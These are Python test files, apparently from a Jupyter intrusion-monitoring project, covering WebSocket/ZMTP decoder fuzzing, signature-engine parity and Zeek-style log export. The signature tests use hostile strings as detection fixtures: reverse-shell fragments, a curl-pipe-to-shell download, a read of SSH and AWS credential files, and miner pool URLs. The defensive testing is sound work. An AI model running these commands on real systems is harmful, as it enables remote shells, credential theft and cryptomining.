            self.bytes_consumed += 64
        while True:
            before = len(self._buffer)
            frame, self._buffer = decode_zmtp_frame(self._buffer)
            if frame is None:
                self._check_declared_length()
                return
            self.bytes_consumed += before - len(self._buffer)
            if frame.command:
                self.commands.append(frame.payload)
                continue
            self._parts.append(frame.payload)
            if not frame.more:
                self.messages.append(self._parts)
                self._parts = []


def _chunkings(stream: bytes, rng: random.Random):
    """One-shot, 1-byte, and three random chunkings of ``stream``."""
    yield [stream]
    yield [stream[i : i + 1] for i in range(len(stream))]
    for _ in range(3):
        chunks, i = [], 0
        while i < len(stream):
            step = rng.randint(1, 19)
            chunks.append(stream[i : i + step])
            i += step
        yield chunks


def _run(decoder, chunks):
    """Feed chunks; returns (observations, error repr or None)."""
    error = None
    fed = 0
    for i, chunk in enumerate(chunks):
        try:
            decoder.feed(chunk)
            fed = i + 1
        except ProtocolError as e:
            error = (i, str(e))
            break
    return fed, error


def _compare_ws(stream: bytes, seed: int):
    rng = random.Random(seed)
    for chunks in _chunkings(stream, rng):
        oracle, cursor = OracleWsDecoder(), WebSocketDecoder()
        fed_o, err_o = _run(oracle, chunks)
        fed_c, err_c = _run(cursor, chunks)
        assert err_o == err_c, f"error divergence: {err_o!r} vs {err_c!r}"
        assert fed_o == fed_c
        assert oracle.frames == cursor.frames()
        assert oracle.messages == cursor.messages()
        assert oracle.bytes_consumed == cursor.bytes_consumed


def _compare_zmtp(stream: bytes, seed: int):
    rng = random.Random(seed)
    for chunks in _chunkings(stream, rng):
        oracle, cursor = OracleZmtpDecoder(), ZmtpDecoder()
        fed_o, err_o = _run(oracle, chunks)
        fed_c, err_c = _run(cursor, chunks)
        assert err_o == err_c, f"error divergence: {err_o!r} vs {err_c!r}"
        assert fed_o == fed_c
        assert oracle.greeting == cursor.greeting
        assert oracle.messages == cursor.messages()
        assert oracle.commands == cursor.commands()
        assert oracle.bytes_consumed == cursor.bytes_consumed


# -- deterministic trace corpus ------------------------------------------------


def _random_ws_stream(rng: random.Random, *, broken: bool) -> bytes:
    out = []
    for _ in range(rng.randint(1, 12)):
        kind = rng.random()
        payload = rng.randbytes(rng.randint(0, 300))
        mask = rng.randbytes(4) if rng.random() < 0.5 else None
        if kind < 0.55:
            opcode = Opcode.TEXT if rng.random() < 0.5 else Opcode.BINARY
            out.append(encode_frame(Frame(True, opcode, payload), mask_key=mask))
        elif kind < 0.75:
            out.extend(fragment_message(payload, rng.randint(1, 64), mask_key=mask))
        elif kind < 0.85:
            out.append(encode_ping(payload[:125], mask_key=mask))
        elif kind < 0.95:
            out.append(encode_pong(payload[:125], mask_key=mask))
        else:
            out.append(encode_close(1000, "bye", mask_key=mask))
    if broken:
        bad = rng.choice([
            b"\xc1\x00",                 # RSV bits set
            b"\x83\x02ab",               # unknown opcode
            b"\x00\x01x",                # stray continuation
            b"\x81\xff" + (1 << 63).to_bytes(8, "big") + b"zz",  # MSB length
            b"\x01\x01a\x81\x01b",       # new data frame mid-fragment
        ])
        out.insert(rng.randrange(len(out) + 1), bad)
    return b"".join(out)


def _random_zmtp_stream(rng: random.Random, *, broken: bool) -> bytes:
    out = [encode_greeting(mechanism="NULL", as_server=rng.random() < 0.5)]
    out.append(encode_ready(rng.choice(["ROUTER", "DEALER"])))
    for _ in range(rng.randint(1, 10)):
        parts = [rng.randbytes(rng.randint(0, 300))
                 for _ in range(rng.randint(1, 6))]
        out.append(encode_multipart(parts))
        if rng.random() < 0.2:
            out.append(encode_ready("SUB"))
    if broken:
        out.insert(1 + rng.randrange(len(out)), b"\x80\x00")  # reserved flag bits
    return b"".join(out)


@pytest.mark.parametrize("seed", range(12))
def test_ws_fuzz_valid_streams(seed):
    rng = random.Random(1000 + seed)
    _compare_ws(_random_ws_stream(rng, broken=False), seed)


@pytest.mark.parametrize("seed", range(12))
def test_ws_fuzz_broken_streams(seed):
    rng = random.Random(2000 + seed)
    _compare_ws(_random_ws_stream(rng, broken=True), seed)


@pytest.mark.parametrize("seed", range(12))
def test_zmtp_fuzz_valid_streams(seed):
    rng = random.Random(3000 + seed)
    _compare_zmtp(_random_zmtp_stream(rng, broken=False), seed)


@pytest.mark.parametrize("seed", range(12))
def test_zmtp_fuzz_broken_streams(seed):
    rng = random.Random(4000 + seed)
    _compare_zmtp(_random_zmtp_stream(rng, broken=True), seed)


def test_ws_truncated_streams_stay_pending():
    """Truncation at every byte boundary: both sides agree on partial state."""
    rng = random.Random(99)
    stream = _random_ws_stream(rng, broken=False)
    for cut in range(0, len(stream), 7):
        oracle, cursor = OracleWsDecoder(), WebSocketDecoder()
        oracle.feed(stream[:cut])
        cursor.feed(stream[:cut])
        assert oracle.frames == cursor.frames()
        assert oracle.bytes_consumed == cursor.bytes_consumed


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.integers(min_value=0, max_value=2**32 - 1))
def test_ws_hypothesis_garbage(data, seed):
    """Arbitrary bytes: identical error/frame behavior under chunking."""
    _compare_ws(data, seed)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.integers(min_value=0, max_value=2**32 - 1))
def test_zmtp_hypothesis_garbage(data, seed):
    """Arbitrary bytes (greeting-prefixed half the time) behave identically."""
    if seed % 2:
        data = encode_greeting() + data
    _compare_zmtp(data, seed)