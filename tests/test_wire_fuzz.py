"""Chunk-boundary fuzz: cursor decoders vs whole-buffer oracles.

The zero-copy rewrite of :class:`WebSocketDecoder` / :class:`ZmtpDecoder`
must be *observably identical* to the seed decoders: same frames, same
messages, same commands, same byte accounting, and the same errors at
the same feed — no matter how the stream is sliced into chunks.  The
oracles below re-implement the seed's whole-buffer algorithm verbatim
(``buffer += data`` then repeated one-shot decode + re-slice) on top of
the pure one-shot codec functions, and every trace is fed to both sides
in one-shot, 1-byte, and random-sized chunkings.
"""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.util.errors import ProtocolError
from repro.wire.websocket import (
    Frame,
    Opcode,
    WebSocketDecoder,
    decode_frame,
    encode_close,
    encode_frame,
    encode_ping,
    encode_pong,
    fragment_message,
)
from repro.wire.zmtp import (
    ZmtpDecoder,
    ZmtpFrame,
    decode_zmtp_frame,
    encode_greeting,
    encode_multipart,
    encode_ready,
    encode_zmtp_frame,
    parse_greeting,
)


class OracleWsDecoder:
    """The seed's WebSocketDecoder feed loop, bit for bit: O(n²) buffer
    re-slicing over the one-shot :func:`decode_frame`.  One intentional
    divergence from the seed is replicated here so it stays covered: the
    cursor decoder rejects a frame *declaring* more than
    ``max_message_size`` at header time (withholding-peer DoS fix)."""

    def __init__(self, *, max_message_size: int = 64 * 1024 * 1024):
        self._buffer = b""
        self._fragments = []
        self._fragment_opcode = None
        self.frames = []
        self.messages = []
        self.max_message_size = max_message_size
        self.bytes_consumed = 0

    def _check_declared_length(self) -> None:
        buf = self._buffer
        if len(buf) < 2:
            return
        length = buf[1] & 0x7F
        if length == 126:
            if len(buf) < 4:
                return
            length = int.from_bytes(buf[2:4], "big")
        elif length == 127:
            if len(buf) < 10:
                return
            length = int.from_bytes(buf[2:10], "big")
        if length > self.max_message_size:
            raise ProtocolError(
                f"declared frame length {length} exceeds cap ({self.max_message_size})")

    def feed(self, data: bytes) -> None:
        self._buffer += data
        while True:
            before = len(self._buffer)
            frame, self._buffer = decode_frame(self._buffer)
            if frame is None:
                self._check_declared_length()
                break
            self.bytes_consumed += before - len(self._buffer)
            self.frames.append(frame)
            self._process(frame)

    def _process(self, frame: Frame) -> None:
        if frame.opcode.is_control:
            self.messages.append((frame.opcode, frame.payload))
            return
        if frame.opcode == Opcode.CONTINUATION:
            if self._fragment_opcode is None:
                raise ProtocolError("continuation frame with no message in progress")
            self._fragments.append(frame.payload)
        else:
            if self._fragment_opcode is not None:
                raise ProtocolError("new data frame while fragmented message in progress")
            self._fragment_opcode = frame.opcode
            self._fragments = [frame.payload]
        total = sum(len(f) for f in self._fragments)
        if total > self.max_message_size:
            raise ProtocolError(f"message exceeds cap ({total} > {self.max_message_size})")
        if frame.fin:
            self.messages.append((self._fragment_opcode, b"".join(self._fragments)))
            self._fragment_opcode = None
            self._fragments = []


class OracleZmtpDecoder:
    """The seed's ZmtpDecoder feed loop on one-shot codec functions,
    plus the cursor decoder's one intentional divergence: oversize
    declared LONG frames are rejected at header time."""

    def __init__(self, *, max_frame_size: int = 64 * 1024 * 1024):
        self._buffer = b""
        self.greeting = None
        self._parts = []
        self.messages = []
        self.commands = []
        self.max_frame_size = max_frame_size
        self.bytes_consumed = 0

    def _check_declared_length(self) -> None:
        buf = self._buffer
        if len(buf) >= 9 and buf[0] & 0x02:  # FLAG_LONG
            n = int.from_bytes(buf[1:9], "big")
            if n > self.max_frame_size:
                raise ProtocolError(
                    f"declared ZMTP frame length {n} exceeds cap ({self.max_frame_size})")

    def feed(self, data: bytes) -> None:
        self._buffer += data
        if self.greeting is None:
            if len(self._buffer) < 64:
                return
            self.greeting, self._buffer = parse_greeting(self._buffer)
            self.bytes_consumed += 64
        while True:
            before = len(self._buffer)
            frame, self._buffer = decode_zmtp_frame(self._buffer)
            if frame is None:
                self._check_declared_length()
                return
            self.bytes_consumed += before - len(self._buffer)
            if frame.command:
                self.commands.append(frame.payload)
                continue
            self._parts.append(frame.payload)
            if not frame.more:
                self.messages.append(self._parts)
                self._parts = []


def _chunkings(stream: bytes, rng: random.Random):
    """One-shot, 1-byte, and three random chunkings of ``stream``."""
    yield [stream]
    yield [stream[i : i + 1] for i in range(len(stream))]
    for _ in range(3):
        chunks, i = [], 0
        while i < len(stream):
            step = rng.randint(1, 19)
            chunks.append(stream[i : i + step])
            i += step
        yield chunks


def _run(decoder, chunks):
    """Feed chunks; returns (observations, error repr or None)."""
    error = None
    fed = 0
    for i, chunk in enumerate(chunks):
        try:
            decoder.feed(chunk)
            fed = i + 1
        except ProtocolError as e:
            error = (i, str(e))
            break
    return fed, error


def _compare_ws(stream: bytes, seed: int):
    rng = random.Random(seed)
    for chunks in _chunkings(stream, rng):
        oracle, cursor = OracleWsDecoder(), WebSocketDecoder()
        fed_o, err_o = _run(oracle, chunks)
        fed_c, err_c = _run(cursor, chunks)
        assert err_o == err_c, f"error divergence: {err_o!r} vs {err_c!r}"
        assert fed_o == fed_c
        assert oracle.frames == cursor.frames()
        assert oracle.messages == cursor.messages()
        assert oracle.bytes_consumed == cursor.bytes_consumed


def _compare_zmtp(stream: bytes, seed: int):
    rng = random.Random(seed)
    for chunks in _chunkings(stream, rng):
        oracle, cursor = OracleZmtpDecoder(), ZmtpDecoder()
        fed_o, err_o = _run(oracle, chunks)
        fed_c, err_c = _run(cursor, chunks)
        assert err_o == err_c, f"error divergence: {err_o!r} vs {err_c!r}"
        assert fed_o == fed_c
        assert oracle.greeting == cursor.greeting
        assert oracle.messages == cursor.messages()
        assert oracle.commands == cursor.commands()
        assert oracle.bytes_consumed == cursor.bytes_consumed


# -- deterministic trace corpus ------------------------------------------------


def _random_ws_stream(rng: random.Random, *, broken: bool) -> bytes:
    out = []
    for _ in range(rng.randint(1, 12)):
        kind = rng.random()
        payload = rng.randbytes(rng.randint(0, 300))
        mask = rng.randbytes(4) if rng.random() < 0.5 else None
        if kind < 0.55:
            opcode = Opcode.TEXT if rng.random() < 0.5 else Opcode.BINARY
            out.append(encode_frame(Frame(True, opcode, payload), mask_key=mask))
        elif kind < 0.75:
            out.extend(fragment_message(payload, rng.randint(1, 64), mask_key=mask))
        elif kind < 0.85:
            out.append(encode_ping(payload[:125], mask_key=mask))
        elif kind < 0.95:
            out.append(encode_pong(payload[:125], mask_key=mask))
        else:
            out.append(encode_close(1000, "bye", mask_key=mask))
    if broken:
        bad = rng.choice([
            b"\xc1\x00",                 # RSV bits set
            b"\x83\x02ab",               # unknown opcode
            b"\x00\x01x",                # stray continuation
            b"\x81\xff" + (1 << 63).to_bytes(8, "big") + b"zz",  # MSB length
            b"\x01\x01a\x81\x01b",       # new data frame mid-fragment
        ])
        out.insert(rng.randrange(len(out) + 1), bad)
    return b"".join(out)


def _random_zmtp_stream(rng: random.Random, *, broken: bool) -> bytes:
    out = [encode_greeting(mechanism="NULL", as_server=rng.random() < 0.5)]
    out.append(encode_ready(rng.choice(["ROUTER", "DEALER"])))
    for _ in range(rng.randint(1, 10)):
        parts = [rng.randbytes(rng.randint(0, 300))
                 for _ in range(rng.randint(1, 6))]
        out.append(encode_multipart(parts))
        if rng.random() < 0.2:
            out.append(encode_ready("SUB"))
    if broken:
        out.insert(1 + rng.randrange(len(out)), b"\x80\x00")  # reserved flag bits
    return b"".join(out)


@pytest.mark.parametrize("seed", range(12))
def test_ws_fuzz_valid_streams(seed):
    rng = random.Random(1000 + seed)
    _compare_ws(_random_ws_stream(rng, broken=False), seed)


@pytest.mark.parametrize("seed", range(12))
def test_ws_fuzz_broken_streams(seed):
    rng = random.Random(2000 + seed)
    _compare_ws(_random_ws_stream(rng, broken=True), seed)


@pytest.mark.parametrize("seed", range(12))
def test_zmtp_fuzz_valid_streams(seed):
    rng = random.Random(3000 + seed)
    _compare_zmtp(_random_zmtp_stream(rng, broken=False), seed)


@pytest.mark.parametrize("seed", range(12))
def test_zmtp_fuzz_broken_streams(seed):
    rng = random.Random(4000 + seed)
    _compare_zmtp(_random_zmtp_stream(rng, broken=True), seed)


def test_ws_truncated_streams_stay_pending():
    """Truncation at every byte boundary: both sides agree on partial state."""
    rng = random.Random(99)
    stream = _random_ws_stream(rng, broken=False)
    for cut in range(0, len(stream), 7):
        oracle, cursor = OracleWsDecoder(), WebSocketDecoder()
        oracle.feed(stream[:cut])
        cursor.feed(stream[:cut])
        assert oracle.frames == cursor.frames()
        assert oracle.bytes_consumed == cursor.bytes_consumed


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.integers(min_value=0, max_value=2**32 - 1))
def test_ws_hypothesis_garbage(data, seed):
    """Arbitrary bytes: identical error/frame behavior under chunking."""
    _compare_ws(data, seed)


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=400), st.integers(min_value=0, max_value=2**32 - 1))
def test_zmtp_hypothesis_garbage(data, seed):
    """Arbitrary bytes (greeting-prefixed half the time) behave identically."""
    if seed % 2:
        data = encode_greeting() + data
    _compare_zmtp(data, seed)

# -- signature automaton vs naive-loop parity ---------------------------------
#
# The two-tier matcher (gate regex + Aho–Corasick candidate enumeration,
# see monitor/signatures.py) must report exactly the hits the seed's
# per-signature loop reports, for any text and any catalogue — including
# catalogues extended mid-stream by honeypot harvesting.  The engine's
# ``parity_check=True`` mode runs both sides on every scan and raises on
# divergence, so these tests only need to drive diverse scans through it.

from hypothesis import example

from repro.honeypot.decoy import InteractionRecord
from repro.honeypot.harvest import SignatureHarvester
from repro.monitor.logs import JupyterMsgRecord
from repro.monitor.signatures import (
    BUILTIN_SIGNATURES,
    Signature,
    SignatureEngine,
)

#: Fragments biased toward the matcher's decision boundaries: every
#: builtin anchor (the automaton's vocabulary), case-mangled and
#: truncated variants (gate hit / regex miss), overlapping-anchor bait,
#: the Kelvin-sign fold boundary, and benign notebook noise.  The one
#: lower()-vs-IGNORECASE gap an anchored rule declares away
#: (U+017F) has its own contract test below.
_PARITY_FRAGMENTS = tuple(
    anchor
    for sig in BUILTIN_SIGNATURES
    for anchor in sig.anchors
) + (
    "STRATUM+TCP://Pool.Example:3333", "Mining.Subscribe", "stratum+tcp:/",
    "bitcoin", "BitCoin wallet", "files are encrypted", "files been encrypted",
    "pay the ransom", "pay........................ransom",
    "/dev/tcp/10.0.0.1/4444", "nc -e /bin/sh", "bash -i >& /dev/tcp",
    "socket.socket()" + "x" * 70 + "subprocess",
    ".ssh/id_rsa", ".SSH/ID_RSA", "JUPYTER_TOKEN", "jupyter_token",
    "curl http://x | sh", "wget x || true", "/lsp/../..", "/api", "/api/",
    "JUPYTER_TOKEN", "jupyter_to\u212aen",  # U+212A KELVIN SIGN: lower() folds it
    "import numpy as np", "df = pd.read_csv('data.csv')", "print(value)",
    '{"code": "sum(range(100))"}', "",
)


def _parity_engine(**kwargs) -> SignatureEngine:
    return SignatureEngine(parity_check=True, **kwargs)


def _scan_families(engine: SignatureEngine, text: str):
    """Scan ``text`` under every family; parity_check raises on any
    automaton/naive divergence.  Returns jupyter-code hit ids."""
    rec = JupyterMsgRecord(0.0, "C1", "10.0.0.2", "10.0.0.1", "shell",
                           "execute_request", code_size=len(text), code=text)
    hits = [n.name for n in engine.scan_jupyter(rec)]
    engine.scan_terminal(0.0, "10.0.0.2", text)
    return hits


@settings(max_examples=120, deadline=None)
@given(st.lists(st.sampled_from(_PARITY_FRAGMENTS), max_size=6),
       st.text(max_size=40),
       st.integers(min_value=0, max_value=2**32 - 1))
@example(["stratum+tcp://", ".ssh/id_rsa"], "", 0)
def test_signature_automaton_parity_builtin(fragments, noise, seed):
    """Property: two-tier scan == naive loop over the builtin catalogue."""
    rng = random.Random(seed)
    parts = list(fragments) + [noise]
    rng.shuffle(parts)
    text = rng.choice([" ", "\n", ""]).join(parts)
    engine = _parity_engine()
    _scan_families(engine, text)


def test_signature_anchor_contract_long_s_caveat():
    """U+017F LATIN SMALL LETTER LONG S is the documented gap between the
    anchor contract's ``str.lower()`` folding and ``re.IGNORECASE``: an
    *anchored* rule declares those codepoints away (the gate never sees
    the anchor, so the automaton path reports no hit even though the raw
    regex would), while an *anchorless* clone of the same rule runs the
    naive loop and catches it — with full parity."""
    text = "\u017ftratum+tcp://pool.evil:3333"
    anchored = SignatureEngine()  # builtin catalogue, SIG-MINER-POOL anchored
    rec = JupyterMsgRecord(0.0, "C1", "a", "b", "shell", "execute_request",
                           code_size=len(text), code=text)
    assert anchored.scan_jupyter(rec) == []
    # The raw IGNORECASE regex alone *would* match — the declared
    # divergence the anchor contract trades for the fast gate.
    assert [s.sig_id for s in anchored._match_naive("jupyter-code", text)] == \
        ["SIG-MINER-POOL"]
    miner = next(s for s in BUILTIN_SIGNATURES if s.sig_id == "SIG-MINER-POOL")
    anchorless = _parity_engine(signatures=[Signature(
        "SIG-MINER-NOANCHOR", miner.description, miner.family, miner.pattern,
        avenue=miner.avenue, anchors=())])
    assert [n.name for n in anchorless.scan_jupyter(rec)] == \
        ["SIG-MINER-NOANCHOR"]


def test_signature_automaton_parity_lone_surrogate():
    """JSON ``\\ud800`` escapes decode to lone surrogates: UTF-8 folding
    is unavailable, the matcher must fall back to every anchored rule."""
    engine = _parity_engine()
    assert _scan_families(engine, "\ud800 stratum+tcp://pool \ud800") == \
        ["SIG-MINER-POOL"]


def test_signature_automaton_parity_harvested_midstream():
    """Install honeypot-harvested rules into a live engine mid-stream:
    the incremental trie extension + lazy failure-link rebuild must stay
    parity-exact before, during, and after each install."""
    rng = random.Random(0x48)
    engine = _parity_engine()
    hostile = [
        "stratum+tcp://xmr.pool.evil:3333 mining.subscribe",
        "curl http://203.0.113.9/stage.sh | sh",
        "cat ~/.ssh/id_rsa ~/.aws/credentials",
        "import base64; base64.b64decode('" + "QUJD" * 40 + "')",
    ]
    interactions = [
        InteractionRecord(ts=float(i), honeypot="hp-a", source_ip="203.0.113.7",
                          kind="cell", content=payload)
        for i, payload in enumerate(hostile * 2)  # recurrence threshold
    ]
    harvested = SignatureHarvester().harvest(interactions)
    assert harvested, "harvester produced no rules to install"
    texts = [h + " tail" for h in hostile] + list(_PARITY_FRAGMENTS)
    matched = set()
    for i, sig in enumerate(harvested):
        matched |= set(_scan_families(engine, rng.choice(texts)))
        engine.add(sig)  # mid-stream install → incremental rebuild
        for _ in range(3):
            matched |= set(_scan_families(engine, rng.choice(texts)))
    assert any(s.startswith("SIG-HP-") for s in matched), \
        "harvested rules never fired — parity run lacked teeth"
    assert "SIG-MINER-POOL" in matched


# -- monitor fast path vs classic-analysis oracle -----------------------------
#
# The engine's canonical-form probes (probe_ws_canonical /
# probe_zmtp_header) divert conforming Jupyter messages onto an
# allocation-free fast path; every non-conforming payload falls back to
# the classic LazyJupyterMessage / JSON analysis.  Forcing the probes to
# decline everything turns the whole engine into that classic oracle —
# the two runs must produce byte-identical exported logs and identical
# health counters for the same session bytes, under any segment
# chunking and under payload mutations.

from dataclasses import replace as _dc_replace

from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.monitor.export import export_zeek_logs
from repro.server import (
    JupyterServer,
    ServerConfig,
    ServerGateway,
    WebSocketKernelClient,
)
from repro.simnet import Network
from repro.telemetry import Telemetry

_SESSION_SEGMENTS = None


def _session_segments():
    """One canned kernel session (recorded once), ending with a cell a
    builtin signature fires on, so notice.log has content to compare."""
    global _SESSION_SEGMENTS
    if _SESSION_SEGMENTS is None:
        net = Network(default_latency=0.001)
        server_host = net.add_host("jupyter", "10.0.0.1")
        client_host = net.add_host("laptop", "10.0.0.2")
        tap = net.add_tap()
        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"),
                               net, server_host)
        ServerGateway(server)
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.request("GET", "/api/status")
        client.start_kernel()
        client.connect_channels()
        for i in range(4):
            client.execute(f"value = sum(range({100 + i}))\nprint(value)")
        client.execute("import urllib.request\n"
                       "# stratum+tcp://pool.evil:3333 mining.subscribe\n"
                       "print('ok')")
        _SESSION_SEGMENTS = tap.segments
    return _SESSION_SEGMENTS


def _rechunk_segments(segments, rng: random.Random):
    """Re-chunk the recorded byte stream: split random segments at
    random byte boundaries (the streams reassemble identically)."""
    out = []
    for seg in segments:
        payload = seg.payload
        if len(payload) > 2 and rng.random() < 0.4:
            cut = rng.randint(1, len(payload) - 1)
            out.append(_dc_replace(seg, payload=payload[:cut]))
            out.append(_dc_replace(seg, payload=payload[cut:]))
        else:
            out.append(seg)
    return out


def _mutate_segments(segments, rng: random.Random):
    """Flip one bit in ~5% of payloads — protocol and JSON damage both
    monitors must weather on the identical perturbed stream."""
    out = []
    for seg in segments:
        payload = seg.payload
        if payload and rng.random() < 0.05:
            i = rng.randrange(len(payload))
            payload = payload[:i] + bytes([payload[i] ^ 0x20]) + payload[i + 1:]
            out.append(_dc_replace(seg, payload=payload))
        else:
            out.append(seg)
    return out


def _run_monitor(segments, *, classic: bool, monkeypatch, telemetry=None):
    import repro.monitor.engine as eng

    if classic:
        monkeypatch.setattr(eng, "probe_ws_canonical", lambda raw: None)
        monkeypatch.setattr(eng, "probe_zmtp_header", lambda header: None)
    kwargs = {} if telemetry is None else {"telemetry": telemetry}
    monitor = JupyterNetworkMonitor(depth=AnalyzerDepth.JUPYTER, **kwargs)
    for seg in segments:
        monitor.on_segment(seg)
    if classic:
        monkeypatch.undo()
    return monitor


def _health_dict(monitor):
    h = monitor.health
    return {k: getattr(h, k) for k in dir(h)
            if not k.startswith("_") and isinstance(getattr(h, k), (int, float))}


@pytest.mark.parametrize("seed", range(6))
def test_engine_fast_path_matches_classic_oracle(seed, monkeypatch):
    """Valid session bytes under any segment chunking: byte-identical
    exported logs and identical health counters, fast path vs classic."""
    segments = _session_segments()
    if seed:
        segments = _rechunk_segments(segments, random.Random(7000 + seed))
    fast = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
    classic = _run_monitor(segments, classic=True, monkeypatch=monkeypatch)
    assert export_zeek_logs(fast.logs) == export_zeek_logs(classic.logs)
    assert _health_dict(fast) == _health_dict(classic)
    assert fast.logs.counts() == classic.logs.counts()


@pytest.mark.parametrize("seed", range(1, 5))
def test_engine_fast_path_mutated_streams_wire_parity(seed, monkeypatch):
    """Bit-flipped streams: the wire layers (conn/http/websocket/zmtp)
    stay byte-identical — the probes sit entirely above them.  The
    Jupyter layer is exempt by design: a flip that corrupts JSON in a
    region the canonical span scanner never decodes (say a control char
    inside a string value) makes the classic *eager* parse reject the
    whole message while span semantics still serve the valid header
    fields (DESIGN.md §6); valid-document extraction parity is covered
    by the probe-oracle tests in test_wire_jupyter.py."""
    segments = _mutate_segments(_session_segments(), random.Random(8000 + seed))
    fast = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
    classic = _run_monitor(segments, classic=True, monkeypatch=monkeypatch)
    logs_f, logs_c = export_zeek_logs(fast.logs), export_zeek_logs(classic.logs)
    for family in ("conn.log", "http.log", "websocket.log", "zmtp.log"):
        assert logs_f.get(family) == logs_c.get(family), family
    assert fast.health.bytes_seen == classic.health.bytes_seen
    assert fast.health.segments_seen == classic.health.segments_seen


def test_same_seed_telemetry_on_off_identical_logs(monkeypatch):
    """Telemetry must observe, never perturb: the exported logs of a
    telemetry-enabled run differ from a disabled run only in the
    notice.log trace-stamp columns that exist to differ."""
    segments = _session_segments()
    on = _run_monitor(segments, classic=False, monkeypatch=monkeypatch,
                      telemetry=Telemetry(enabled=True))
    off = _run_monitor(segments, classic=False, monkeypatch=monkeypatch)
    logs_on, logs_off = export_zeek_logs(on.logs), export_zeek_logs(off.logs)
    assert logs_on.keys() == logs_off.keys()

    def strip_stamps(text: str) -> str:
        lines = text.splitlines()
        header = lines[0].split("\t")
        keep = [i for i, col in enumerate(header)
                if col not in ("trace_id", "span_id")]
        return "\n".join("\t".join(row.split("\t")[i] for i in keep)
                         for row in lines)

    for name in logs_on:
        if name == "notice.log":
            assert strip_stamps(logs_on[name]) == strip_stamps(logs_off[name])
        else:
            assert logs_on[name] == logs_off[name]
    assert _health_dict(on) == _health_dict(off)
    assert on.logs.notice_names()  # the session must actually raise notices
