"""Tests for log records, the log store, and Zeek-style TSV export."""

import pytest

from repro.monitor.export import export_zeek_logs, parse_tsv, records_to_tsv
from repro.monitor.logs import (
    ConnRecord,
    HttpRecord,
    JupyterMsgRecord,
    LogStore,
    Notice,
)
from repro.taxonomy.oscrp import Avenue


def sample_store() -> LogStore:
    store = LogStore()
    store.conn.append(ConnRecord(ts=1.5, uid="c1", src="10.0.0.2", sport=50000,
                                 dst="10.0.0.1", dport=8888, service="http",
                                 bytes_orig=120, bytes_resp=456, closed=True,
                                 duration=2.25))
    store.http.append(HttpRecord(ts=1.6, uid="c1", src="10.0.0.2", dst="10.0.0.1",
                                 method="GET", path="/api/status", status=200,
                                 has_auth=True))
    store.jupyter.append(JupyterMsgRecord(ts=2.0, uid="c2", src="10.0.0.2",
                                          dst="10.0.0.1", channel="shell",
                                          msg_type="execute_request",
                                          code="print(1)", code_size=8))
    store.notices.append(Notice(ts=3.0, detector="signature", name="SIG-MINER-POOL",
                                severity="high", src="10.0.0.2",
                                avenue=Avenue.CRYPTOMINING,
                                detail={"description": "stratum handshake"}))
    return store


class TestLogStore:
    def test_counts(self):
        counts = sample_store().counts()
        assert counts == {"conn": 1, "http": 1, "websocket": 0, "zmtp": 0,
                          "jupyter": 1, "weird": 0, "notices": 1}

    def test_notice_queries(self):
        store = sample_store()
        assert store.notice_names() == ["SIG-MINER-POOL"]
        assert len(store.notices_for(Avenue.CRYPTOMINING)) == 1
        assert store.notices_for(Avenue.RANSOMWARE) == []


class TestTsvExport:
    def test_header_structure(self):
        text = records_to_tsv(sample_store().conn, path_name="conn")
        lines = text.splitlines()
        assert lines[0] == "#separator \\x09"
        assert lines[2] == "#path conn"
        assert lines[3].startswith("#fields\tts\tuid\tsrc")
        assert lines[4].startswith("#types\tdouble\tstring")

    def test_value_rendering(self):
        text = records_to_tsv(sample_store().conn, path_name="conn")
        row = text.splitlines()[-1].split("\t")
        assert row[0] == "1.500000"        # double format
        assert "T" in row                   # bool closed=True
        assert "10.0.0.2" in row

    def test_empty_family(self):
        text = records_to_tsv([], path_name="weird")
        assert "#path weird" in text
        assert text.splitlines()[-1] == "#fields"

    def test_all_families_exported(self):
        logs = export_zeek_logs(sample_store())
        assert set(logs) == {"conn.log", "http.log", "websocket.log", "zmtp.log",
                             "jupyter.log", "notice.log", "weird.log"}
        assert "execute_request" in logs["jupyter.log"]
        assert "SIG-MINER-POOL" in logs["notice.log"]

    def test_tabs_and_newlines_sanitized(self):
        store = LogStore()
        store.jupyter.append(JupyterMsgRecord(
            ts=1.0, uid="u", src="a", dst="b", channel="shell",
            msg_type="execute_request", code="evil\tcode\nwith newline"))
        text = records_to_tsv(store.jupyter, path_name="jupyter")
        data_rows = [l for l in text.splitlines() if not l.startswith("#")]
        # Column count must stay constant despite hostile content.
        assert all(len(r.split("\t")) == len(data_rows[0].split("\t")) for r in data_rows)

    def test_roundtrip_parse(self):
        store = sample_store()
        rows = parse_tsv(records_to_tsv(store.http, path_name="http"))
        assert len(rows) == 1
        assert rows[0]["method"] == "GET"
        assert rows[0]["path"] == "/api/status"
        assert rows[0]["status"] == "200"

    def test_live_monitor_export(self):
        """End-to-end: a real session's logs export and parse cleanly."""
        from repro.monitor import JupyterNetworkMonitor
        from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
        from repro.simnet import Network

        net = Network(default_latency=0.001)
        sh = net.add_host("jupyter", "10.0.0.1")
        ch = net.add_host("laptop", "10.0.0.2")
        tap = net.add_tap()
        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"), net, sh)
        ServerGateway(server)
        monitor = JupyterNetworkMonitor()
        monitor.attach(tap)
        client = WebSocketKernelClient(ch, sh, token="tok")
        client.start_kernel()
        client.connect_channels()
        client.execute("1 + 1")
        logs = export_zeek_logs(monitor.logs)
        conn_rows = parse_tsv(logs["conn.log"])
        jupyter_rows = parse_tsv(logs["jupyter.log"])
        assert conn_rows and jupyter_rows
        assert any(r["msg_type"] == "execute_request" for r in jupyter_rows)
