"""Unit tests for the simulation clock."""

import pytest

from repro.util import SimClock, WallClock


class TestSimClock:
    def test_starts_at_zero(self):
        assert SimClock().now() == 0.0

    def test_custom_start(self):
        assert SimClock(10.5).now() == 10.5

    def test_advance_returns_new_time(self):
        c = SimClock()
        assert c.advance(2.5) == 2.5
        assert c.now() == 2.5

    def test_advance_accumulates(self):
        c = SimClock()
        c.advance(1.0)
        c.advance(0.25)
        assert c.now() == 1.25

    def test_advance_negative_rejected(self):
